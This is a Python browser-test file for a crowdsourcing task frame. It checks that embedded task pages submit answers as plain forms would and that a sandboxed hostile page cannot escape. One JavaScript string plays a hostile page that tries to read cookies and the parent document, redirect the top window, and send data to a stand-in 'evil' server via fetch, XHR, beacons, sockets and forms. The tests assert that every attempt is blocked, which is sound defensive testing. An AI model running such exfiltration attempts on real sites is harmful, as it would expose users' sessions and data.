"""The sandboxed frame: answers are what a plain form would post; a hostile page gets nowhere."""

import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from crowdloom.testkit.frames import task_frame
from crowdloom_local.acceptance.compare import without_protocol
from crowdloom_local.acceptance.native import NativeServer, plain_page
from flask import Flask, request
from playwright.sync_api import BrowserContext

pytestmark = pytest.mark.browser

ROW = {"n": "7", "quote": 'say "hi" & <go>'}
PRESS = "document.querySelector('[type=submit], button').click()"
# What each page is, and what somebody does on it.
FORMS = {
    "without a form": ('<input name="a"><input name="b" value="two">', f"a('a', 'one');{PRESS}"),
    "with a form of its own": (
        '<form><input name="a" value="1"><button name="go" value="now">Go</button></form>',
        PRESS,
    ),
    "a whole document": (
        (
            "<!doctype html><html><head><title>t</title></head><body><input name=a value=${n}>"
            "</body></html>"
        ),
        PRESS,
    ),
    "with a form that would GET": (
        '<form method="get" action="/elsewhere"><input name="q" value="x y&z=1"></form>',
        PRESS,
    ),
    "with a hard-coded address": (
        (
            '<form method="POST" action="https://www.mturk.com/mturk/externalSubmit">'
            '<input type="hidden" name="assignmentId" id="assignmentId" value="">'
            '<input name="a" value="1"><input type="submit"></form>'
            "<script>turkSetAssignmentID()</script>"
        ),
        PRESS,
    ),
    "submitted by script": (
        (
            '<form id="f"><input name="a" value="1"><input type="hidden" name="made" value="">'
            '<input type="button" value="Done" onclick="this.form.made.value=1;this.form.submit()">'
            "</form>"
        ),
        "document.querySelector('[type=button]').click()",
    ),
    "with a form whose submit is shadowed": (
        '<form><input name="submit" value="x"><input name="a" value="1"></form>',
        "HTMLFormElement.prototype.submit.call(document.forms[0])",
    ),
    "with two buttons": (
        (
            '<form><input name="a" value="1"><button name="verdict" value="yes">Yes</button>'
            '<button name="verdict" value="no">No</button></form>'
        ),
        "document.querySelectorAll('button')[1].click()",
    ),
    "with an image for a button": (
        (
            '<form><input name="a" value="1"><input type="image" name="spot" alt="Here" '
            'width="40" height="40"></form>'
        ),
        "document.querySelector('[type=image]').click()",
    ),
    "with choices": (
        (
            '<form><input type="checkbox" name="c" value="1" checked>'
            '<input type="checkbox" name="c" value="2">'
            '<input type="checkbox" name="c" value="3" checked>'
            '<input type="checkbox" name="bare" checked>'
            '<input type="radio" name="r" value="x"><input type="radio" name="r" value="y" checked>'
            '<select name="m" multiple><option selected>p<option>q<option selected value="">r'
            '</select><select name="s"><option value="1">one<option value="2" selected>two</select>'
            '<input name="off" value="1" disabled>'
            '<fieldset disabled><input name="off2" value="1"></fieldset>'
            '<input type="range" name="w" min="0" max="10" value="4"></form>'
        ),
        PRESS,
    ),
    "with many lines": (
        '<textarea name="t"></textarea><input type="hidden" name="two&#10;lines" value="a&#10;b">',
        f"a('t', 'one\\ntwo\\r\\nthree\\rfour\\n');{PRESS}",
    ),
    "with characters of all kinds": (
        '<input name="naïve ☂"><textarea name="e"></textarea><input name="q" value=\'${quote}\'>',
        f"a('naïve ☂', 'نوشته 👩‍👩‍👧 \\u0000 + % &');a('e', '\\ud83d x');{PRESS}",
    ),
    "with fields elsewhere": (
        (
            '<input name="before" form="f" value="1">'
            '<form id="f"><input name="in" value="2"></form>'
            '<textarea name="after" form="f" dirname="after.dir">3</textarea>'
        ),
        PRESS,
    ),
    "that posts parts": (
        (
            '<form enctype="multipart/form-data" method="post"><input name="a" value="1">'
            '<textarea name="t">x\ny</textarea><input type="file" name="none"></form>'
        ),
        PRESS,
    ),
    "that adds to its data at the last moment": (
        (
            '<form onsubmit="event.stopPropagation(); this.a.value += 2"><input name="a" value="1">'
            "</form><script>document.forms[0].addEventListener('formdata', e => "
            "e.formData.append('late', [...new FormData(document.forms[0])].length))</script>"
        ),
        PRESS,
    ),
    "with a crowd-form": (
        (
            '<crowd-form answer-format="flatten-objects"><input name="a" value="1" required>'
            "</crowd-form>"
        ),
        PRESS,
    ),
}
WRITE = "const a = (name, value) => { document.getElementsByName(name)[0].value = value; };"


@pytest.fixture(scope="module")
def native() -> Iterator[NativeServer]:
    with NativeServer() as server:
        yield server


def posted_natively(
    context: BrowserContext, native: NativeServer, template: str, act: str
) -> list[tuple[str, str]]:
    native.show(plain_page(template, ROW))
    page = context.new_page()
    page.add_init_script("window.turkSetAssignmentID = () => {}")
    page.goto(f"{native.url}/native/page")
    page.evaluate("() => { for (const form of document.forms) form.action = '/native/post'; }")
    page.evaluate(f"() => {{ {WRITE} {act} }}")
    page.wait_for_url("**/native/post*")
    page.close()
    assert native.posted is not None
    return without_protocol(native.posted)


@pytest.mark.parametrize("form", FORMS)
def test_a_page_answers_what_it_would_have_posted(
    context: BrowserContext, workplace: Any, native: NativeServer, form: str
) -> None:
    template, act = FORMS[form]
    item = workplace.item(template, ROW)
    page = workplace.open(context, item)
    page.locator("[data-next-at-once]").uncheck()
    task_frame(page).evaluate(f"() => {{ {WRITE} {act} }}")
    page.wait_for_url("**/work/queue")
    page.close()
    expected = [list(pair) for pair in posted_natively(context, native, template, act)]
    assert workplace.answer_of(item) == expected


ATTEMPTS = """async (evil) => {
  const got = {};
  const attempt = async (name, work) => {
    try { got[name] = await work(); } catch (error) { got[name] = `refused: ${error.name}`; }
  };
  const real = (owner, name) => Object.getOwnPropertyDescriptor(owner, name).get;
  await attempt('cookie', () => real(Document.prototype, 'cookie').call(document));
  await attempt('storage', () => {
    delete window.localStorage;
    return String(window.localStorage);
  });
  await attempt('database', () => indexedDB.open('x') && 'opened');
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => { top.location.href = evil + '/top'; });
  await attempt('window', () => String(window.open(evil + '/window')));
  await attempt('fetch', () => fetch(evil + '/fetch', { mode: 'no-cors' }).then(() => 'sent'));
  await attempt('own api', () => fetch('/api/tasks/v1/projects').then(() => 'sent'));
  await attempt('request', () => new Promise((done, fail) => {
    const call = new XMLHttpRequest();
    call.onload = () => done('sent');
    call.onerror = () => fail(new TypeError('failed'));
    call.open('POST', evil + '/request');
    call.send('x');
  }));
  await attempt('beacon', () => { navigator.sendBeacon(evil + '/beacon', 'x'); });
  await attempt('socket', () => { new WebSocket(evil.replace('http', 'ws') + '/socket'); });
  await attempt('worker', () => navigator.serviceWorker.register('/frame/x.js').then(() => 'made'));
  await attempt('loads', () => new Promise((done) => {
    const loads = [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['video', 'src']];
    for (const [tag, name] of loads) {
      const made = document.createElement(tag);
      made[name] = `${evil}/${tag}`;
      document.body.append(made);
    }
    const style = document.createElement('link');
    style.rel = 'stylesheet';
    style.href = evil + '/style';
    document.head.append(style);
    setTimeout(done, 300);
  }));
  await attempt('form', () => {
    const form = document.createElement('form');
    form.action = evil + '/form';
    form.target = '_top';
    document.body.append(form);
    HTMLFormElement.prototype.submit.call(form);
  });
  setTimeout(() => { location.href = evil + '/away'; }, 100);
  return got;
}"""


def test_a_hostile_page_reaches_no_cookie_storage_parent_or_network(
    context: BrowserContext, workplace: Any, serve: Callable[[Flask], str]
) -> None:
    reached: list[str] = []
    lock = threading.Lock()
    evil = Flask("evil", static_folder=None)

    @evil.before_request
    def note() -> str:
        with lock:
            reached.append(request.path)
        return "caught"

    item = workplace.item('<input name="a">')
    page = workplace.open(context, item)
    frame = task_frame(page)
    got = frame.evaluate(ATTEMPTS, serve(evil))
    frame.wait_for_url(lambda url: url.startswith("chrome-error:"), wait_until="commit")
    assert got["cookie"] == "refused: SecurityError"
    assert got["storage"] == "undefined"
    assert got["database"] == "refused: SecurityError"
    assert got["parent"] == got["top"] == "refused: SecurityError"
    assert got["window"] == "null"
    assert got["fetch"] == got["own api"] == got["request"] == "refused: TypeError"
    assert got["worker"].startswith("refused")
    assert reached == []
    assert page.url.endswith(item.assignment_id)
    page.close()


def test_what_stands_in_for_cookies_and_storage_is_the_page_s_own(
    context: BrowserContext, workplace: Any
) -> None:
    item = workplace.item('<input name="a">')
    page = workplace.open(context, item)
    page.evaluate("sessionStorage.setItem('mine', '1')")
    seen = task_frame(page).evaluate(
        """() => {
          document.cookie = 'seen=yes; path=/';
          localStorage.setItem('k', 1);
          localStorage.other = 'two';
          return [document.cookie, localStorage.getItem('k'), localStorage.other, localStorage.none,
            localStorage.length, sessionStorage.getItem('mine')];
        }"""
    )
    assert seen == ["seen=yes", "1", "two", None, 2, None]
    assert all(cookie["name"] != "seen" for cookie in context.cookies())
    page.close()


def test_only_the_frame_is_believed(context: BrowserContext, workplace: Any) -> None:
    item = workplace.item('<input name="a">')
    page = workplace.open(context, item)
    frame = task_frame(page)
    forged = "window.postMessage({crowdloom: 'submitted', answer: [['a', 'forged']]}, '*')"
    page.evaluate(forged)
    frame.evaluate("parent.postMessage({crowdloom: 'submitted', answer: 'no answer'}, '*')")
    frame.evaluate("parent.postMessage({crowdloom: 'constructor'}, '*')")
    frame.evaluate("parent.postMessage({crowdloom: 'said', text: '<b>bold</b>'}, '*')")
    note = page.locator("[data-work-note] [data-sentence]")
    note.get_by_text("<b>bold</b>").wait_for()
    assert workplace.answer_of(item) is None
    page.close()


def test_pages_find_what_mechanical_turk_gave_them(context: BrowserContext, workplace: Any) -> None:
    item = workplace.item(
        '<form><input name="assignmentId" value=""><input name="a"></form>'
        "<script>turkSetAssignmentID()</script>"
    )
    page = workplace.open(context, item)
    found = task_frame(page).evaluate(
        """() => [document.getElementsByName('assignmentId')[0].value,
          turkGetParam('assignmentId'), turkGetParam('none', 'otherwise'),
          new URLSearchParams(location.search).get('workerId'), document.scripts.length,
          confirm('Sure?'), prompt('How many?', '3')]"""
    )
    identity = [item.assignment_id, item.assignment_id]
    assert found == [*identity, "otherwise", "A7F3K", 1, True, "3"]
    page.close()


def test_elements_of_the_crowd_family_answer_too(context: BrowserContext, workplace: Any) -> None:
    item = workplace.item(
        '<crowd-form answer-format="flatten-objects">'
        '<crowd-input name="i" label="Say" required></crowd-input>'
        '<crowd-text-area name="t"></crowd-text-area>'
        '<crowd-slider name="s" min="1" max="9" value="3"></crowd-slider>'
        '<crowd-checkbox name="c">Yes</crowd-checkbox>'
        '<crowd-checkbox name="d" value="v" checked>No</crowd-checkbox><crowd-radio-group>'
        '<crowd-radio-button name="r" value="1" checked>One</crowd-radio-button>'
        '<crowd-radio-button name="r" value="2">Two</crowd-radio-button></crowd-radio-group>'
        '<crowd-button form-action="submit">Send</crowd-button></crowd-form>'
    )
    page = workplace.open(context, item)
    page.locator("[data-next-at-once]").uncheck()
    frame = task_frame(page)
    frame.get_by_role("textbox", name="Say").fill("hello")
    frame.locator("crowd-text-area textarea").fill("a")
    frame.get_by_role("slider").fill("7")
    frame.get_by_text("Yes").click()
    frame.get_by_text("Two").click()
    frame.get_by_role("button", name="Send").click()
    page.wait_for_url("**/work/queue")
    assert workplace.answer_of(item) == [
        ["i", "hello"],
        ["t", "a"],
        ["s", "7"],
        ["c.on", "true"],
        ["d.v", "true"],
        ["r.1", "false"],
        ["r.2", "true"],
    ]
    page.close()
